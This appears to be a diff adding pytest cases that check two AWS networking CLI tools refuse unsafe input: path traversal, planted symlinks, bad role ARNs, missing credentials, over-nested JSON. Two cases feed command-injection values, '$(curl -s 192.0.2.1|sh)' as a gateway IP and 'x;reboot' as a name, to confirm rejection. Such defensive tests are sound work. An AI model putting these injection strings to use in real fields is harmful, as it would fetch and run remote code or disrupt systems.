@@ -96,6 +96,48 @@ CASES = {
                          "**Error** Invalid username or password"),
     "cs controller garbage": (cellscan("--backup_folder", "b", sub=SPOKE), ("controller", "garbage"), 1,
                               "**Error** controller login failed: "),
+    # paths, identities and the environment
+    "rp empty folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "",
+                         "--output_test_config", "o"], GOOD, 1, 'Please remove the beginning "/"'),
+    "rp climbing folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b/../../x",
+                            "--output_test_config", "o"], GOOD, 1, 'must not climb out with ".."'),
+    "rp climbing output": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b",
+                            "--output_test_config", "../o.json"], GOOD, 1, 'must not climb out with ".."'),
+    "rp output folder missing": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b",
+                                  "--output_test_config", "nowhere/o.json"], GOOD, 1,
+                                 "cannot write the output test config in "),
+    "rp folder is a file": (rollprobe("--test_config", "in.json"), ("file", "b"), 1, "cannot write the log in b"),
+    "rp not an arn": (rollprobe("--test_config", "in.json", "--assume_role", "x"), GOOD, 1,
+                      "--assume_role x is not an IAM role ARN"),
+    "rp unknown profile": (rollprobe("--test_config", "in.json", "--profile", "nope"), GOOD, 1,
+                           "The config profile (nope) could not be found"),
+    "rp no region": (rollprobe("--test_config", "in.json")[:3] + ["--output_test_config", "out.json",
+                                                                   "--test_config", "in.json"], GOOD, 1,
+                     "You must specify a region", {"AWS_DEFAULT_REGION": None}),
+    "rp no credentials": (rollprobe("--test_config", "in.json"), GOOD, 1, "Unable to locate credentials",
+                          {"AWS_ACCESS_KEY_ID": None, "AWS_SECRET_ACCESS_KEY": None, "AWS_SESSION_TOKEN": None,
+                           "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent", "AWS_CONFIG_FILE": "/nonexistent"}),
+    "rp nested config": (rollprobe("--test_config", "in.json"), "[" * 100000, 1, "in.json: is nested too deeply"),
+    "rp bad cidr": (rollprobe("--test_config", "in.json"),
+                    '[{"gw_subnet_id": "s", "private_subnet_id": "p", "private_subnet_cidr": "10.0.1.0/33"}]', 1,
+                    "record 0 has an invalid private_subnet_cidr 10.0.1.0/33"),
+    "cs not an arn": ([tool("cellscan"), "--vpc", "VPC", "--assume_role", "x", "--region", REGION,
+                       "--backup_folder", "b", "natgw"], None, 1, "--assume_role x is not an IAM role ARN"),
+    "cs climbing folder": (cellscan("--backup_folder", "b/.."), None, 1, 'must not climb out with ".."'),
+    "cs climbing output": (cellscan("--backup_folder", "b", "--output_test_config", "../x"), None, 1,
+                           "must be a file name inside the backup folder"),
+    "cs log symlink": (cellscan("--backup_folder", "b"), ("symlink", "b/log/brimvale_testlibs.log"), 1,
+                       "cannot write the log in b"),
+    "cs nested history": (cellscan("--backup_folder", "b"), ("history", "[" * 100000), 1,
+                          "cannot read history file"),
+    "cs public_ip null": (cellscan("--backup_folder", "b", sub=SPOKE), ("gateway", {"public_ip": None}), 1,
+                          "**Error** controller answer refused: gateway spoke-1: public_ip None"),
+    "cs injected private_ip": (cellscan("--backup_folder", "b", sub=SPOKE),
+                               ("gateway", {"private_ip": "$(curl -s 192.0.2.1|sh)"}), 1,
+                               "private_ip '$(curl -s 192.0.2.1|sh)' is not an IPv4 address"),
+    "cs injected name": (cellscan("--backup_folder", "b", sub=SPOKE),
+                         ("gateway", {"hagw_details": {"gw_name": "x;reboot"}}), 1,
+                         "gateway name 'x;reboot' is not a safe name"),
 }
 
 
@@ -109,7 +151,7 @@ def resources(c):
 
 @pytest.mark.parametrize("name", list(CASES))
 def test_refused(name, server_clients, controller, tmp_path):
-    argv, content, status, message = CASES[name]
+    argv, content, status, message, *env_change = CASES[name]
     c = server_clients
     topo = build_vpc(c.ec2)
     nat = nat_vpc(c.ec2, second_octet=50, zones=["us-east-1a"], private_nat=False)
@@ -117,6 +159,9 @@ def test_refused(name, server_clients, controller, tmp_path):
     if content == GOOD:
         content = json.dumps([nat_record(*topo.pairs[0])])
     env = cli_env(c.url, "http://127.0.0.1:9/", AWS_EC2_METADATA_SERVICE_ENDPOINT="http://127.0.0.1:9")
+    for key, value in (env_change[0] if env_change else {}).items():
+        env.pop(key, None) if value is None else env.__setitem__(key, value)
+    outside = tmp_path / "outside.txt"
     password = "secret"
     if isinstance(content, tuple):
         kind, value = content
@@ -125,6 +170,14 @@ def test_refused(name, server_clients, controller, tmp_path):
             (tmp_path / "b/history.json").write_text(value)
         elif kind == "password":
             password = value
+        elif kind == "file":
+            (tmp_path / value).write_text("not a folder")
+        elif kind == "symlink":
+            (tmp_path / value).parent.mkdir(parents=True)
+            (tmp_path / value).symlink_to(outside)
+        elif kind == "gateway":
+            controller.gateways[0].update(value)
+            controller.refuse_unknown = False  # no second line for the absent "-hagw" peer
         else:
             controller.mode = value
     elif content is not None:
@@ -141,3 +194,4 @@ def test_refused(name, server_clients, controller, tmp_path):
     written = [p.name for p in tmp_path.rglob("*") if p.is_file() and p.suffix in ("", ".json", ".config", ".part")]
     assert not {"out.json", "subnet.config"} & set(written)
     assert not list(tmp_path.rglob(".tmp-*"))
+    assert not outside.exists()  # nothing written through a planted link
